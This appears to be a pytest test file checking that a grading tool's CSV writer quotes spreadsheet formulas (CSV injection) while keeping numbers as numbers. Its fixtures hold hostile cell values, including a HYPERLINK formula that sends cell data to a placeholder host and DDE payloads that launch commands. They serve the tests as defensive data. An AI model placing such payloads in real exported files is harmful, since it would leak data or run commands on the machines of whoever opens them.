"""csvsafe.py: no CSV that solgen writes starts a cell with a spreadsheet formula (OWASP CSV
injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from solgen.base.csvsafe import TRIGGERS, safe_cell, safe_row
from solgen.cli import main

KEY = "sgk1-" + "42" * 32
# Checked here independently of csvsafe: what a spreadsheet opens as a plain number.
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Roster rows as an attacker would write them: formulas, DDE, a phone number, and one real
# negative number as an id (a number reads as a number and is left alone).
HOSTILE = [
    ('=HYPERLINK("http://x.example/?"&A1,"Click")', "=cmd|' /C calc'!A0"),
    ("+cmd", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("@x", "+44 20 7946 0958"),
    ("-2+3", "-Eve"),
    ("-5", "Minus Five"),
    ("s6", "Plain Name"),
]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x.example","Click")', '\'=HYPERLINK("http://x.example","Click")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("+", "'+"),
        ("-1/2", "'-1/2"),  # a spreadsheet would compute it: not a plain number
        ("-inf", "'-inf"),
        ("-1e", "'-1e"),
        ("-0.5", "-0.5"),
        ("-1.2e-5", "-1.2e-5"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        ("-7.", "-7."),
        ("1E+300", "1E+300"),
        ("", ""),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        (" =1", " =1"),  # only the first character counts, as OWASP lists them
        ("'=1", "'=1"),
    ],
)
def test_a_formula_gets_a_quote_and_a_number_stays_a_number(cell, written):
    assert safe_cell(cell) == written


def test_values_that_are_not_text():
    assert safe_row(["-5", -5, -0.25, None, 3, "=x"]) == ["-5", "-5", "-0.25", "", "3", "'=x"]
    assert frozenset("=+-@\t\r") == TRIGGERS


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(alphabet="=+-@\t\r0123456789.eE'abc ", max_size=12))
def test_no_written_cell_starts_a_formula(text):
    written = safe_cell(text)
    assert not written.startswith(DANGEROUS) or NUMBER.fullmatch(written)
    assert written in (text, "'" + text)
    assert written == text or (text[:1] in DANGEROUS and not NUMBER.fullmatch(text))


# --- every CSV of a class ------------------------------------------------------------------------


def cells_of(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))


def assert_no_formula(path: Path) -> None:
    for number, row in enumerate(cells_of(path), start=1):
        for cell in row:
            assert not cell.startswith(DANGEROUS) or NUMBER.fullmatch(cell), (path, number, cell)


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory) -> Path:
    top = tmp_path_factory.mktemp("csvsafe")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([("id", "name"), *HOSTILE])
    (top / "roster.csv").write_text(out.getvalue(), encoding="utf-8")
    (top / "k").write_text(KEY + "\n", encoding="ascii")
    args = ["batch", "--roster", str(top / "roster.csv"), "--key", str(top / "k")]
    assert main([*args, "--out", str(top / "class"), "--no-pdf"]) == 0
    return top / "class"


def test_answers_csv_quotes_formulas_and_keeps_numbers(hostile_class):
    path = hostile_class / "answers.csv"
    assert_no_formula(path)
    rows = cells_of(path)
    by_id = {row[0]: row for row in rows[1:]}
    assert sorted(by_id) == sorted(
        ["'" + i if i != "-5" and i[0] in "=+-@" else i for i, _ in HOSTILE]
    )
    assert by_id['\'=HYPERLINK("http://x.example/?"&A1,"Click")'][1] == "'=cmd|' /C calc'!A0"
    assert by_id["'+cmd"][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_id["'@x"][1] == "'+44 20 7946 0958"
    assert (by_id["'-2+3"][1], by_id["-5"][1], by_id["s6"][1]) == (
        "'-Eve",
        "Minus Five",
        "Plain Name",
    )
    # Negative answers are written as numbers and read back as floats, equal to results.json's.
    header = rows[0]
    negative = 0
    for written, row in by_id.items():
        student = written[1:] if written.startswith("'") else written
        answers = json.loads((hostile_class / "answers.json").read_text("utf-8"))[student]
        db2 = float(row[header.index("db2")])
        assert db2 == pytest.approx(answers["problem1"]["grad"]["b2"], rel=1e-11)
        for cell in row[2:]:
            if cell.startswith("-"):
                assert float(cell) < 0
                negative += 1
    assert negative >= 5


def test_grades_and_feedback_quote_formulas(hostile_class, tmp_path):
    answers = tmp_path / "answers.csv"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "loss"])
    # A form gives the ids as typed; a copy from answers.csv gives them quoted: both are read.
    writer.writerow(['=HYPERLINK("http://x.example/?"&A1,"Click")', "1"])
    writer.writerow(["'+cmd", "2"])
    writer.writerow(["-5", "3"])
    answers.write_text(out.getvalue(), encoding="utf-8")
    grades = tmp_path / "grades.csv"
    assert (
        main(["grade", "--key", str(hostile_class), "--answers", str(answers), "-o", str(grades)])
        == 0
    )
    assert_no_formula(grades)
    rows = {row[0]: row for row in cells_of(grades)[1:]}
    assert rows['\'=HYPERLINK("http://x.example/?"&A1,"Click")'][1] == "'=cmd|' /C calc'!A0"
    assert rows["'-2+3"][1] == "'-Eve"
    total = cells_of(grades)[0].index("total")
    answered = [row[0] for row in rows.values() if row[1] and row[2] != ""]
    assert sorted(answered) == sorted(
        ['\'=HYPERLINK("http://x.example/?"&A1,"Click")', "'+cmd", "-5"]
    )
    assert all(row[total] for row in rows.values())
    for text_file in (tmp_path / "grades-feedback").iterdir():
        text = text_file.read_text("utf-8")
        assert not text.startswith(DANGEROUS), text_file
    first = (tmp_path / "grades-feedback" / "_cmd.txt").read_text("utf-8").splitlines()[0]
    assert first.startswith("'@SUM(1+1)*cmd|' /C calc'!A0 (+cmd): ")


def test_the_data_files_hold_numbers_only(hostile_class):
    # data/*.csv (datafiles.py) write the given numbers only: fixed-point decimals, which
    # csvsafe leaves as they are; no cell of them can start a formula.
    files = sorted((hostile_class / "_cmd" / "data").glob("*.csv"))
    assert len(files) == 7
    for path in files:
        for row in cells_of(path):
            assert all(NUMBER.fullmatch(cell) and safe_cell(cell) == cell for cell in row)
